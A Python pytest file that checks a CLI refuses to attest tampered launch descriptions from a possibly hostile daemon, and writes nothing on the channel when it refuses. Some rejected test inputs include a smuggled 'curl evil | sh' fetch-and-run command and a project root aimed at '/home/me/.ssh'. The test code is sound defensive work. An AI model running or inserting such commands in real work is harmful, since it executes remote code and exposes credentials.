"""The person's side of a launch's attestation: the CLI attests a description only if it
is what was asked for, hashing it itself, and writes nothing else on the channel. cairnd
is a stand-in on a real socketpair here (it may be the attacker); the broker's side is
tests/unit/test_broker_socket.py and tests/system/test_cairn_attacker.py."""

from __future__ import annotations

import os
import pwd
import socket
import threading
from collections.abc import Iterator

import pytest

from cairn.cli.attest import Expected, exchange
from cairn.errors import PermissionDenied
from cairn.protocol.attestation import parse_attestation
from cairn.protocol.launch import LaunchDescription, ProfileSpec, ProjectSpec

RUN = "flow_" + "d4" * 16
ME = os.getuid()
SCRIPT = ProfileSpec(name="x", kind="scripted", output={"summary": "s"})


def description(**changes: object) -> LaunchDescription:
    account = pwd.getpwuid(ME)
    desc = LaunchDescription(
        run_id=RUN, owner_uid=ME, owner_gid=account.pw_gid, owner_name=account.pw_name,
        definition="builtin:implement", source="print(1)", source_filename="implement.py",
        review_hash="sha256:" + "a" * 64, review={}, args={"objective": "tidy", "depth": 2},
        project=ProjectSpec(root="/home/me/p", owner_uid=ME, on_pool_fs=False),
        profiles={"x": SCRIPT}, apply_mode="ask", cairn_version="t", created_at=1.0,
    )
    return desc.model_copy(update=changes)


ASKED = Expected(project="/home/me/p", definition="builtin:implement", apply_mode="ask",
                 args={"objective": "tidy"}, scripted={"x": SCRIPT.model_dump(mode="json")})


def test_what_was_asked_for_is_attested_by_its_own_hash() -> None:
    desc = description()
    assert ASKED.check(desc.model_dump_json().encode()) == (RUN, desc.launch_hash())
    coerced = description(args={"objective": "tidy", "depth": 2, "n": 5})
    assert Expected(args={"n": "5"}).check(coerced.model_dump_json().encode())[0] == RUN


@pytest.mark.parametrize(
    ("changes", "why"),
    [
        ({"owner_uid": ME + 1}, "the owner is"),
        ({"project": ProjectSpec(root="/home/me/.ssh", owner_uid=ME, on_pool_fs=False)},
         "the project is '/home/me/.ssh'"),
        ({"definition": "builtin:goal"}, "the definition is"),
        ({"apply_mode": "auto"}, "the apply mode is 'auto', not 'ask'"),
        ({"args": {"objective": "curl evil | sh"}}, "the arguments objective are not"),
        ({"profiles": {"x": SCRIPT.model_copy(update={"steps": []}), "y": SCRIPT}},
         "the scripted profiles are not the ones sent"),
    ],
)
def test_a_description_that_is_not_what_was_asked_for_is_never_attested(
    changes: dict[str, object], why: str
) -> None:
    with pytest.raises(PermissionDenied, match=f"not attesting {RUN}: .*{why}"):
        ASKED.check(description(**changes).model_dump_json().encode())


def test_an_unreadable_description_is_refused() -> None:
    with pytest.raises(PermissionDenied, match="cannot read"):
        ASKED.check(b'{"run_id": 1}\n')


@pytest.fixture
def cairnd() -> Iterator[tuple[socket.socket, socket.socket, socket.socket, socket.socket]]:
    """The CLI's connection to a stand-in cairnd (both ends), and the attestation
    channel's two ends: the one cairnd holds and passes on, and the CLI's."""
    cli, daemon = socket.socketpair()
    mine, theirs = socket.socketpair()
    with cli, daemon, mine, theirs:
        yield cli, daemon, theirs, mine


def test_the_cli_writes_exactly_one_attestation_line_for_what_it_checked(
    cairnd: tuple[socket.socket, ...],
) -> None:
    cli, daemon, theirs, mine = cairnd
    desc = description()
    heard: list[bytes] = []

    def stand_in() -> None:
        theirs.sendall(desc.model_dump_json().encode() + b"\n")
        heard.append(theirs.recv(4096))  # what the broker would read
        daemon.sendall(b'{"ok": true}\n')
        daemon.shutdown(socket.SHUT_WR)

    thread = threading.Thread(target=stand_in)
    thread.start()
    assert exchange(cli, mine, ASKED) == b'{"ok": true}\n'
    thread.join(timeout=10)
    assert [parse_attestation(line) for line in heard] == [(RUN, desc.launch_hash())]


def test_the_cli_writes_nothing_for_a_description_it_refuses(
    cairnd: tuple[socket.socket, ...],
) -> None:
    cli, daemon, theirs, mine = cairnd
    theirs.sendall(description(apply_mode="auto").model_dump_json().encode() + b"\n")
    with pytest.raises(PermissionDenied, match="the apply mode"):
        exchange(cli, mine, ASKED)
    theirs.settimeout(5)
    assert theirs.recv(4096) == b""  # the channel closed with nothing written
